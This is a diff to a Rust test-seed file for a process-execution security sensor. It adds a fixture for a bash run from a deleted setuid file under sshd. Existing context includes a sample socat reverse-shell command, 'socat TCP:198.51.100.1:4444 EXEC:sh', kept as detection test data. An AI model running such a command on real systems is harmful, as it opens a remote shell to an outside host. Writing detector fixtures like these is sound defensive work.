@@ -3,9 +3,9 @@
 use bytemuck::{Pod, Zeroable, bytes_of};
 use sensor_common::address::mapped;
 use sensor_common::record::{
-    ACCEPTED, Arm, ConnectionRecord, ExecRecord, FLAG_I, FLAG_UNSEARCHED, Lineage, PATH_CUT, PATH_DETACHED,
-    PATH_UNREADABLE, REASON_PARENT, REASON_PRESSURE, REASON_STREAMS, STREAM_DEVICE, STREAM_TCP, Stream, WITNESS_ACCEPT,
-    WITNESS_CONNECT, WITNESS_GRAFT, WITNESS_PROC,
+    ACCEPTED, Arm, ConnectionRecord, ExecRecord, FLAG_I, FLAG_UNSEARCHED, KNOWN_FILE, KNOWN_SESSION, KNOWN_TTY,
+    KNOWN_UNLINKED, Lineage, PATH_CUT, PATH_DETACHED, PATH_UNREADABLE, REASON_PARENT, REASON_PRESSURE, REASON_STREAMS,
+    STREAM_DEVICE, STREAM_TCP, Stream, WITNESS_ACCEPT, WITNESS_CONNECT, WITNESS_GRAFT, WITNESS_PROC,
 };
 
 /// When the events were, in nanoseconds since boot.
@@ -24,6 +24,7 @@ pub(super) fn seeds() -> Vec<(String, Vec<u8>)> {
         ("exec-cut", cut()),
         ("exec-on-socket", on_socket()),
         ("exec-of-socat", socat()),
+        ("exec-with-surroundings", surrounded()),
     ]
     .map(|(name, bytes)| (name.to_owned(), bytes))
     .into()
@@ -78,6 +79,26 @@ fn socat() -> Vec<u8> {
     let mut header = ExecRecord { comm: padded(b"socat"), reason: REASON_PARENT, ..exec() };
     header.path.state = PATH_UNREADABLE;
     record(&header, b"socat1\0bin\0", b"socat\0TCP:198.51.100.1:4444\0EXEC:sh\0")
+}
+
+/// A file that was removed, in a session of its own with a terminal, with the paths of two ancestors, a directory and an environment.
+fn surrounded() -> Vec<u8> {
+    let (ancestors, directory, environment) =
+        ([b"sshd\0bin\0".as_slice(), b"deep\0"], b"www\0var\0", b"PATH=/bin\0=\0A=\xff\0B=c");
+    let mut header = ExecRecord { argv_len: 5, argv_total: 5, ..exec() };
+    header.path.len = length(b"bash\0");
+    let to = &mut header.surroundings;
+    to.known = KNOWN_FILE | KNOWN_UNLINKED | KNOWN_SESSION | KNOWN_TTY;
+    (to.inode, to.device, to.mode) = (77, 8 << 20 | 1, 0o104_755);
+    (to.session, to.tty) = (4000, 136 << 20 | 5);
+    for (part, path) in to.ancestors.iter_mut().zip(ancestors) {
+        part.len = length(path);
+    }
+    to.ancestors[1].state = PATH_CUT;
+    to.directory.len = length(directory);
+    to.environment_len = length(environment);
+    to.environment_total = 100;
+    [bytes_of(&header), b"bash\0", &ancestors.concat(), directory, b"bash\0", environment].concat()
 }
 
 fn arm() -> Arm {
